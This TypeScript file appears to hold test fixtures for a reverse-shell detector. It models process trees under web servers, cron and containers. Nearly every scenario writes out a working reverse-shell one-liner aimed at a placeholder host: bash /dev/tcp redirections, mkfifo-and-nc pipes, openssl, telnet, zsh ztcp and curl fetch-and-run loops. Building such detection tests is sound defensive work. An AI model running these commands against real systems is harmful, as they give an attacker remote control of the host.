// Shells that connect by themselves, and pipelines of a shell and a tool.
import { attack, PEER, pipeline, redirected, typed, type Attack } from './attack.js';

export const REDIRECTIONS: readonly Attack[] = [
  attack('bash -i >& /dev/tcp, from a web server', 'execve', (host) => {
    const web = host.running('/usr/sbin/apache2');
    const shell = web.run(['sh', '-c', `bash -c 'bash -i >& /dev/tcp/${PEER}/443 0>&1'`]);
    const inner = shell.run(['bash', '-c', `bash -i >& /dev/tcp/${PEER}/443 0>&1`]);
    redirected(inner, ['bash', '-i'], 443);
  }),
  attack('bash -i with &> and a space', 'execve', (host) => {
    const cron = host.running('/usr/sbin/cron');
    const shell = cron.run([
      '/bin/sh',
      '-c',
      `/bin/bash -c "/bin/bash -i &> /dev/tcp/evil.example/8443 <&1"`,
    ]);
    const inner = shell.run(['/bin/bash', '-c', '/bin/bash -i &> /dev/tcp/evil.example/8443 <&1']);
    redirected(inner, ['/bin/bash', '-i'], 8443);
  }),
  attack('sh -i over UDP', 'execve', (host) => {
    const shell = host.login().run(['bash', '-c', `sh -i >& /dev/udp/${PEER}/53 0>&1`]);
    redirected(shell, ['sh', '-i'], 53, true);
  }),
  attack('a numbered descriptor', 'execve', (host) => {
    const text = `0<&196;exec 196<>/dev/tcp/${PEER}/9001; sh <&196 >&196 2>&196`;
    const shell = host
      .running('/usr/sbin/nginx')
      .run(['bash', '-c', text])
      .connect(PEER, 9001, { exit: 0 });
    typed(shell.run(['sh']));
  }),
  attack('a loop that reads commands', 'execve', (host) => {
    const text = `exec 5<>/dev/tcp/${PEER}/9001;cat <&5 | while read line; do $line 2>&5 >&5; done`;
    const shell = host.login().run(['bash', '-c', text]).connect(PEER, 9001, { exit: 0 });
    shell.run(['cat']);
    typed(shell.fork());
  }),
  attack('a loop typed at a prompt', 'network', (host) => {
    const shell = host.login().connect(PEER, 9001, { exit: 0 });
    shell.run(['cat']);
    typed(shell.fork());
  }),
  attack('the shell itself is redirected by exec, in a script', 'network', (host) => {
    const shell = host
      .login()
      .run(['bash', '/home/dev/.cache/update'])
      .connect(PEER, 9001, { exit: 0 });
    typed(shell);
  }),
  attack('bash -i typed at a prompt', 'network', (host) => {
    redirected(host.login(), ['bash', '-i']);
  }),
  attack('bash -l instead of -i', 'execve', (host) => {
    const shell = host
      .running('/usr/sbin/cron')
      .run(['/bin/bash', '-c', `/bin/bash -l > /dev/tcp/${PEER}/4444 0<&1 2>&1`]);
    redirected(shell, ['/bin/bash', '-l']);
  }),
  attack('commands from the connection, read by sh', 'execve', (host) => {
    const shell = host.running('/usr/sbin/cron').run(['bash', '-c', `bash </dev/tcp/${PEER}/80`]);
    redirected(shell, ['bash'], 80);
  }),
  attack('eval of what comes', 'execve', (host) => {
    const shell = host
      .running('/usr/sbin/cron')
      .run(['bash', '-c', `eval "$(cat </dev/tcp/${PEER}/80)"`]);
    shell.fork().connect(PEER, 80, { exit: 0 }).exec(['cat']);
  }),
  attack('ksh', 'execve', (host) => {
    const shell = host
      .login()
      .run(['ksh', '-c', `ksh -i >/dev/tcp/${PEER}/4444 2>&1 <&1`], { exe: '/usr/bin/ksh93' });
    const child = shell.fork().connect(PEER, 4444);
    typed(child.exec(['ksh', '-i'], { exe: '/usr/bin/ksh93' }));
  }),
  attack('zsh with its TCP module', 'execve', (host) => {
    const text = `zmodload zsh/net/tcp && ztcp ${PEER} 9001 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY`;
    const shell = host.login().run(['zsh', '-c', text]).connect(PEER, 9001, { exit: 0 });
    typed(shell.run(['zsh']));
  }),
  attack('setsid in the background, to an IPv6 address', 'execve', (host) => {
    const text = 'bash -i &>/dev/tcp/2001:db8::66/4443 0>&1';
    const shell = host.login().run(['setsid', 'bash', '-c', text]).exec(['bash', '-c', text]);
    const child = shell.fork().connect('2001:db8::66', 4443);
    typed(child.exec(['bash', '-i']));
  }),
  attack('in a container, by busybox and bash', 'execve', (host) => {
    const shim = host.running('/usr/bin/containerd-shim-runc-v2');
    const shell = shim.run(['/bin/sh', '-c', `bash -i 5<> /dev/tcp/${PEER}/6000 0<&5 1>&5 2>&5`], {
      exe: '/bin/busybox',
    });
    const bash = shell.fork().connect(PEER, 6000);
    typed(bash.exec(['bash', '-i']));
  }),
  attack('in a loop that tries again', 'execve', (host) => {
    const text = `while true; do bash -i >& /dev/tcp/${PEER}/8080 0>&1; sleep 30; done`;
    const shell = host.running('/usr/lib/systemd/systemd').run(['/bin/bash', '-c', text]);
    redirected(shell, ['bash', '-i']);
    shell.run(['sleep', '30']);
  }),
];

const MKFIFO = `rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ${PEER} 9001 >/tmp/f`;
export const PIPES: readonly Attack[] = [
  attack('a named pipe and nc, by a web server', 'execve', (host) => {
    const shell = host.running('/usr/sbin/php-fpm8.2').run(['sh', '-c', MKFIFO]);
    shell.run(['rm', '-f', '/tmp/f']);
    shell.run(['mkfifo', '/tmp/f']);
    pipeline(
      shell,
      [
        ['cat', '/tmp/f'],
        ['sh', '-i'],
        ['nc', PEER, '9001'],
      ],
      'nc',
    );
  }),
  attack('a named pipe and nc, typed', 'execve', (host) => {
    const shell = host.login();
    shell.run(['mkfifo', '/var/tmp/.x']);
    pipeline(
      shell,
      [
        ['nc', PEER, '9001'],
        ['cat', '/var/tmp/.x'],
        ['/bin/bash', '-i'],
      ],
      'nc',
    );
  }),
  attack('a named pipe and ncat over UDP', 'execve', (host) => {
    const shell = host.login();
    shell.run(['mkfifo', '/tmp/g']);
    pipeline(
      shell,
      [
        ['cat', '/tmp/g'],
        ['sh', '-i'],
        ['ncat', '-u', PEER, '53'],
      ],
      'ncat',
      53,
    );
  }),
  attack('mknod and nc.traditional', 'execve', (host) => {
    const shell = host.login();
    shell.run(['mknod', '/tmp/backpipe', 'p']);
    pipeline(shell, [['/bin/sh'], ['nc.traditional', PEER, '443']], 'nc.traditional', 443);
  }),
  attack('openssl s_client', 'execve', (host) => {
    const shell = host.running('/usr/sbin/cron').run(['/bin/sh', '/opt/.c/run']);
    shell.run(['mkfifo', '/tmp/s']);
    pipeline(
      shell,
      [
        ['/bin/sh', '-i'],
        ['openssl', 's_client', '-quiet', '-connect', `${PEER}:443`],
      ],
      'openssl',
      443,
    );
  }),
  attack('openssl in a command', 'execve', (host) => {
    const text = `mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${PEER}:443 > /tmp/s; rm /tmp/s`;
    host.running('/usr/bin/java').run(['/bin/bash', '-c', text]);
  }),
  attack('two telnets', 'execve', (host) => {
    pipeline(
      host.login(),
      [['telnet', PEER, '8080'], ['/bin/bash'], ['telnet', PEER, '8081']],
      'telnet',
      8080,
    );
  }),
  attack('telnet and a named pipe with a random name', 'execve', (host) => {
    const shell = host
      .running('/usr/bin/perl')
      .run(['sh', '-c', `TF=$(mktemp -u);mkfifo $TF && telnet ${PEER} 9001 0<$TF | sh 1>$TF`]);
    shell.run(['mktemp', '-u']);
    shell.run(['mkfifo', '/tmp/tmp.ab12']);
    pipeline(shell, [['sh'], ['telnet', PEER, '9001']], 'telnet');
  }),
  attack('curl with telnet://', 'execve', (host) => {
    const curl = ['curl', '-Ns', `telnet://${PEER}:9001`];
    pipeline(host.login(), [curl, ['sh'], curl], 'curl');
  }),
  attack('nc that listens on a named pipe', 'execve', (host) => {
    const shell = host.login();
    shell.run(['mkfifo', '/tmp/b']);
    const nc = shell.run(['nc', '-lvnp', '4444']).listen(4444).accept(PEER);
    typed(shell.run(['/bin/sh', '-i']));
    nc.connectUnix();
  }),
  attack('busybox nc and ash', 'execve', (host) => {
    const shell = host
      .running('/usr/bin/containerd-shim')
      .run(['/bin/sh'], { exe: '/bin/busybox' });
    shell.run(['mkfifo', '/tmp/p'], { exe: '/bin/busybox' });
    const nc = shell.run(['nc', PEER, '1337'], { exe: '/bin/busybox' });
    typed(shell.run(['/bin/ash', '-i'], { exe: '/bin/busybox' }));
    nc.connect(PEER, 1337);
  }),
  attack('nc piped into sh', 'execve', (host) => {
    const shell = host
      .running('/usr/sbin/cron')
      .run(['/bin/sh', '-c', `nc -w 5 ${PEER} 8888 | /bin/sh`]);
    pipeline(shell, [['nc', '-w', '5', PEER, '8888'], ['/bin/sh']], 'nc');
  }),
  attack('a loop of curl', 'execve', (host) => {
    const text = `while :; do curl -s http://${PEER}/c | sh 2>&1 | curl -s -d @- http://${PEER}/o; sleep 5; done`;
    host.running('/usr/sbin/cron').run(['/bin/sh', '-c', text]);
  }),
  attack('nc and a loop with eval', 'execve', (host) => {
    const text = `mkfifo /tmp/q; nc ${PEER} 9 < /tmp/q | while read -r c; do eval "$c" > /tmp/q 2>&1; done`;
    host.running('/usr/bin/python3.11').run(['bash', '-c', text]);
  }),
  attack('a co-process of bash', 'execve', (host) => {
    host
      .login()
      .run([
        'bash',
        '-c',
        `coproc nc ${PEER} 9001; exec /bin/sh <&"\${COPROC[0]}" >&"\${COPROC[1]}" 2>&1`,
      ]);
  }),
  attack('sqlite3 that starts the pipe', 'execve', (host) => {
    const shell = host
      .login()
      .run(['sqlite3', '/dev/null', `.shell ${MKFIFO}`])
      .run(['sh', '-c', MKFIFO]);
    shell.run(['mkfifo', '/tmp/f']);
    pipeline(
      shell,
      [
        ['cat', '/tmp/f'],
        ['sh', '-i'],
        ['nc', PEER, '9001'],
      ],
      'nc',
    );
  }),
];
